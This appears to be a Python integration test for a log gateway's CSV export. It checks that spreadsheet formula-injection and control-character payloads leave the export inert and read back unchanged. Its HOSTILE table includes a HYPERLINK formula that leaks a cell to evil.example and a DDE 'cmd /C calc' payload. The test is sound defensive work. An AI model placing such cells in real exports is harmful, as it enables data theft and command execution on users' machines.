"""CSV export through the gateway: hostile cells leave inert, and read back exactly."""

from __future__ import annotations

import csv
import io
import re

import orjson
import pytest

from tests.integration.conftest import Api, bearer
from tests.integration.helpers import ingest
from tests.unit.log.test_export import read_cell  # the README's rule for reading a cell

pytestmark = pytest.mark.integration

# What a spreadsheet would run (OWASP CSV injection) or a terminal would obey.
HOSTILE = {
    "eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quote": "'=1+1",
    "ansi": "\x1b[31mred\x1b[0m and a bell\x07",
    "c1": "next line\x85 and csi\x9b and del\x7f",
    "slashes": "=C:\\temp\\ and \\u0041",
}
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


async def test_csv_export_neutralises_formulas_and_control_characters(api: Api) -> None:
    tenant = await api.tenant("x", retention_days=3650)
    tokens = await api.role_tokens(tenant)
    events = [
        {
            "id": f"x-{name}",
            "level": "error",
            "message": value,
            "service": "-svc",
            "user_id": "@alice",
            "attributes": {"cmd": value},
        }
        for name, value in HOSTILE.items()
    ]
    await ingest(api.http, bearer(tokens["writer"]), events, reader=bearer(tokens["auditor"]))

    params = {"sort": "asc", "limit": 100}
    resp = await api.http.get(
        "/api/v1/logs/export",
        params={"format": "csv", **params},
        headers=bearer(tokens["auditor"]),
    )
    assert resp.status_code == 200, resp.text
    rows = list(csv.DictReader(io.StringIO(resp.text, newline="")))
    assert len(rows) == len(events)
    for row in rows:
        for column, cell in row.items():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
            assert not CONTROL.search(cell), (column, cell)

    # Read back with the documented rule, the CSV says what the NDJSON export says.
    nd = await api.http.get(
        "/api/v1/logs/export",
        params={"format": "ndjson", **params},
        headers=bearer(tokens["auditor"]),
    )
    # split on "\n" only: str.splitlines() would also split at the U+0085 inside a message
    stored = [orjson.loads(line) for line in nd.content.split(b"\n") if line]
    assert {e["id"]: e["message"] for e in stored} == {
        f"x-{name}": value for name, value in HOSTILE.items()
    }
    for row, event in zip(rows, stored, strict=True):
        back = {}
        for column, cell in row.items():
            if cell == "":
                continue
            value = read_cell(cell)
            objects = ("before", "after", "metadata", "attributes")
            back[column] = orjson.loads(value) if column in objects else value
        assert back == event
